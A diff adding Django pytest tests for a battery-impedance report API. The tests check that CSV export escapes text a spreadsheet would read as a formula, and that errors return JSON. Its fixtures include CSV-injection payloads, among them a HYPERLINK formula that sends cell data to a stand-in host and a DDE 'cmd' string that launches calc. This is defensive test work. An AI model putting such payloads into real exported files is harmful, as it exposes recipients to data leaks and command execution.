@@ -179,3 +179,78 @@ def test_query_count_does_not_depend_on_the_number_of_tests(
     with django_assert_num_queries(3):
         response = get_report(client, [t.pk for t in tests])
     assert len(response.json()) == n
+
+
+# --- CSV safety and errors ---------------------------------------------------------------------
+
+
+def csv_rows(response) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(response.content.decode())))
+
+
+@pytest.mark.parametrize(
+    ("battery_id", "cell"),
+    [
+        (
+            '=HYPERLINK("http://evil.example/?"&A1,"click")',
+            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
+        ),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(1+1)", "'@SUM(1+1)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("BAT-00042", "BAT-00042"),
+        ("cell = 3", "cell = 3"),
+    ],
+)
+def test_csv_neutralises_text_a_spreadsheet_would_read_as_a_formula(
+    client_for, viewer, organization, battery_id, cell
+):
+    test = EISTestFactory(organization=organization, battery__battery_id=battery_id)
+    EISData.objects.create(
+        organization=organization, test=test, frequency=100.0, parameter="z_real", value=0.25
+    )
+    EISData.objects.create(
+        organization=organization, test=test, frequency=100.0, parameter="z_imag", value=-0.5
+    )
+    client = client_for(viewer)
+    rows = csv_rows(get_report(client, [test.pk], format="csv"))
+    header, row = rows
+    assert row[header.index("battery_id")] == cell
+    # Numbers stay numbers, a negative one included.
+    assert row[header.index("z_real_0")] == "0.25"
+    assert row[header.index("z_imag_0")] == "-0.5"
+    assert row[header.index("z_real_1")] == ""
+    # JSON carries the value as stored.
+    assert get_report(client, [test.pk]).json()[0]["battery_id"] == battery_id
+
+
+def error_cases(client, anonymous, organization):
+    test = EISTestFactory(organization=organization)
+    return [
+        (client, f"{REPORT}?format=csv", {}, 400),
+        (client, f"{REPORT}?test=abc&format=csv", {}, 400),
+        (client, f"{REPORT}?test=999999&format=csv", {}, 404),
+        (client, f"{REPORT}?test=999999", {"HTTP_ACCEPT": "text/csv"}, 404),
+        (client, REPORT, {"HTTP_ACCEPT": "text/csv"}, 400),
+        (anonymous, f"{REPORT}?test={test.pk}&format=csv", {}, 401),
+        (anonymous, f"{REPORT}?test={test.pk}", {"HTTP_ACCEPT": "text/csv"}, 401),
+    ]
+
+
+def test_errors_are_json_even_when_csv_was_asked(client_for, api_client, viewer, organization):
+    for client, url, headers, status in error_cases(client_for(viewer), api_client, organization):
+        response = client.get(url, **headers)
+        assert response.status_code == status, url
+        assert response["Content-Type"] == "application/json", (url, headers)
+        body = response.json()
+        assert body.get("detail") or body.get("test"), body
+
+
+def test_an_unknown_format_is_a_json_404(client_for, viewer, organization):
+    test = EISTestFactory(organization=organization)
+    response = client_for(viewer).get(REPORT, {"test": test.pk, "format": "xlsx"})
+    assert response.status_code == 404
+    assert response["Content-Type"] == "application/json"
+    assert response.json()["detail"]
